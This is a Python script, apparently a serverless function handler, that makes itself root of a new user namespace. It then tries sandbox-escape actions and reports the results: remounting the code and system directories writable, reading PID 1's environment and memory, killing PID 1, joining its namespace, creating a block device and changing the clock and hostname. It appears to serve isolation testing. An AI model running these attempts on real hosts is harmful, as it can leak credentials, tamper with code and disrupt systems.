"""Becomes root of a user namespace of its own, which anybody may, and tries to make something of it."""

import ctypes
import os
import socket
import time

NEWNS, NEWUSER = 0x20000, 0x10000000
BIND, REMOUNT, REC = 4096, 32, 16384

libc = ctypes.CDLL(None, use_errno=True)


def call(name, *args):
    ctypes.set_errno(0)
    args = [a.encode() if isinstance(a, str) else ctypes.c_long(a) for a in args]
    if getattr(libc, name)(*args) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def write(path):
    with open(path, "w") as f:
        f.write("x")


def remount(path):
    call("mount", "none", path, "none", REMOUNT | BIND, "")
    write(path + "/attack")


def bind_writable(path):
    call("mount", path, "/mnt", "none", BIND | REC, "")
    call("mount", "none", "/mnt", "none", REMOUNT | BIND, "")
    write("/mnt/attack")


def uncover():
    call("umount2", "/var/task", 2)
    return os.listdir("/var/task")


ATTEMPTS = {
    # Shows that it is root of its own, without which the rest would prove nothing.
    "itself": lambda: (os.getuid(), call("mount", "none", "/tmp", "tmpfs", 0, ""))[0],
    "the code made writable": lambda: remount("/var/task"),
    "the code made writable elsewhere": lambda: bind_writable("/var/task"),
    "the root made writable": lambda: remount("/"),
    "programs made writable": lambda: remount("/usr"),
    "what lies below the code": uncover,
    "the guest's environment": lambda: open("/proc/1/environ").read() or "nothing",
    "the guest's files": lambda: os.listdir("/proc/1/fd"),
    "the guest's memory": lambda: open("/proc/1/mem", "rb").read(1),
    "the guest's root": lambda: os.listdir("/proc/1/root"),
    "the guest's end": lambda: os.kill(1, 9),
    "the guest's name space": lambda: os.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), NEWNS),
    "root of the guest": lambda: os.setresuid(0, 0, 0) or os.chown("/tmp", 0, 0),
    "a block device": lambda: os.mknod("/tmp/b", 0o60600, os.makedev(8, 0)),
    "the clock": lambda: time.clock_settime(0, 0),
    "the name of the machine": lambda: socket.sethostname("attack"),
}


def attempt(name):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            user = os.getuid()
            call("unshare", NEWUSER | NEWNS)
            with open("/proc/self/uid_map", "w") as f:
                f.write("0 %d 1" % user)
            said = "gained: %r" % (ATTEMPTS[name](),)
        except Exception as e:
            said = type(e).__name__
        os.write(w, said.encode())
        os._exit(0)
    os.close(w)
    said = os.read(r, 1000).decode()
    os.close(r)
    os.waitpid(pid, 0)
    return said


def handler(event, context):
    said = {name: attempt(name) for name in ATTEMPTS}
    said["afterwards"] = sorted(os.listdir("/var/task"))
    said["host"] = os.uname().nodename
    return said
